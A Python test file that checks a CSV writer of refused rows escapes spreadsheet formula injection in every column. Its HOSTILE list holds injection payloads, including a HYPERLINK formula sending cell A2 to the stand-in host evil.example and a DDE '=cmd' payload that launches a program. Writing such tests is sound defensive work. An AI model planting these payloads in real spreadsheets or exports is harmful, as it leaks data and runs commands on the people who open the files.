"""The file of refused rows is opened in a spreadsheet: nothing in it is run there."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from waylight.exchange.files.refusals import Refusal, write_refused_rows

BEGINS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
HOSTILE = [
    '=HYPERLINK("http://evil.example?"&A2,"Amina")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]


def kept(folder: Path, value: str) -> list[list[str]]:
    """The rows of the file, as a spreadsheet reads its cells."""
    file = folder / "refused.csv"
    write_refused_rows([Refusal(value, 2, value, value, value, value)], file)
    with file.open(newline="", encoding="utf-8-sig") as opened:
        return list(csv.reader(opened))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_would_run_is_disarmed_in_every_column(tmp_path: Path, value: str) -> None:
    assert kept(tmp_path, value)[1] == [f"'{value}", "2", *[f"'{value}"] * 4]


@given(st.text(max_size=40))
def test_no_cell_begins_as_a_formula_does(tmp_path_factory: pytest.TempPathFactory, value: str) -> None:
    cells = [cell for row in kept(tmp_path_factory.mktemp("refused"), value.replace("\x00", "")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple(BEGINS))]


def test_what_was_harmless_is_as_it_was(tmp_path: Path) -> None:
    assert kept(tmp_path, "O'Neill, 4 May")[1][1:] == ["2", *["O'Neill, 4 May"] * 4]
